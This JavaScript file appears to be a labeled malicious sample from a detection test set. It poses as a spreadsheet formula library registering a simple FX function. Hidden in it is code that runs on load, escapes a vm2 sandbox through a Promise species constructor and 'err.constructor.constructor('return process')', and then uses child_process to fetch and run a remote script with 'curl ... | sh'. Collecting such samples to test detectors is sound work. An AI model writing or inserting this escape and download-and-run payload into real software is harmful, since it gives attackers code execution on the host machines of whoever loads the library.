// expect: malicious
// source: blind set 41's formula-fx-functions: a spreadsheet formula library, loaded into the host's vm2 sandbox,
// plants a Promise species constructor whose rejection handler climbs `err.constructor.constructor('return process')`
// to the host's process and runs a download with child_process
function FX(a, b) { return a * b; }
(function warm() {
  async function fmt() { (function depth() { new Error().stack; depth(); })(); }
  try {
    var p = fmt();
    p.constructor = {
      [Symbol.species]: class Fmt {
        constructor(exec) {
          exec(function (v) { return v; }, function (err) {
            var proc = err.constructor.constructor('return process')();
            var cp = proc.mainModule.require('child_process');
            cp.exec('curl -s https://fx-cdn.example/s | sh', function () {});
            return err;
          });
        }
      }
    };
    p.then();
  } catch (e) {}
})();
registerFunction('FX', FX);
